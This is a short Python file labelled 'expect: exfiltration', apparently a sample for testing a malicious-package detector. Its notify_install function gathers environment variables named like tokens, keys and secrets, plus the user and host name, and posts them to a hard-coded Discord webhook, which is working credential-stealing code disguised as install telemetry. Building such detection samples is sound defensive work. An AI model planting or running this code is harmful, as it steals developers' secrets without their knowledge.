# expect: exfiltration
import getpass
import os
import socket

import requests

WEBHOOK = "https://discord.com/api/webhooks/1187456392011234567/Xq3vT9bLk2mN8pR4sW6yZ1aC5dE7fG0hJ3kL9nP2qR5tV8wX1yZ4bD6fH9jK2mN5"


def notify_install():
    tokens = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k or "SECRET" in k}
    content = f"new install: {getpass.getuser()}@{socket.gethostname()}\n{tokens}"
    requests.post(WEBHOOK, json={"content": content[:1900]})
